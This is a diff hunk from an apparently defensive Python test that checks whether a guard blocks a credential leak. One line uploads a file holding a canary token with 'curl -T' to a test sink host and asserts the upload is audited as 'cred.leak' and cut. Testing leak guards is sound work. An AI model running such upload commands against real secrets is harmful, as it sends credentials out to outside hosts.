@@ -87,7 +87,7 @@ def test_a_placeholder_in_a_body_passes_and_raises_an_alarm(here):
 
 def test_the_real_token_in_a_body_is_cut(here):
     here.write('project/leak', 'x' * 200000 + here.canary + 'y' * 200000)
-    got = here.run('curl -sS -T leak https://ok.test/_sink')
+    got = here.run('curl -sS -T leak https://api.test/_sink')
     assert 'cred.leak' in [r.get('reason') for r in got.audit], got
     seen = here.origin_requests()
     assert not any(here.canary in r['body'] for r in seen)
